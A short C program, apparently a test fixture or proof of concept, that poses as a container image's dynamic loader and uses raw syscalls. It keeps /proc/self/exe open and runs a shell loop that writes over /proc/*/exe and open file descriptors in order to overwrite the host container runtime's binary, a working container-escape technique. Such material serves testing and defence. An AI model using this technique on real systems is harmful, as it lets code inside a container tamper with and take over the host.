// Stands where an image has the loader of dynamic programs: whoever makes the runtime execute itself in the image runs this, and what runs is the
// runtime's own file. It keeps that file open, becomes a shell, so that the file is not busy any more, and overwrites it. No library, as a loader has none.
#define SYSCALL_OPEN 2
#define SYSCALL_EXECVE 59
#define OPEN_PATH 010000000

static long call(long number, const void *a, const void *b, const void *c)
{
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

void _start(void)
{
    // Nobody relocates us: each address is taken where it is used.
    const char *arguments[4], *environment[2];
    arguments[0] = "/bin/sh";
    arguments[1] = "-c";
    arguments[2] = "echo begun; for i in $(seq $(cat /times)); do for f in /proc/[0-9]*/exe /proc/self/fd/[0-9]*; do echo changed > $f; done; sleep 0.005; done 2> /dev/null";
    arguments[3] = 0;
    environment[0] = "PATH=/bin";
    environment[1] = 0;
    call(SYSCALL_OPEN, "/proc/self/exe", (void *)OPEN_PATH, 0);
    call(SYSCALL_EXECVE, arguments[0], arguments, environment);
    __builtin_trap();
}
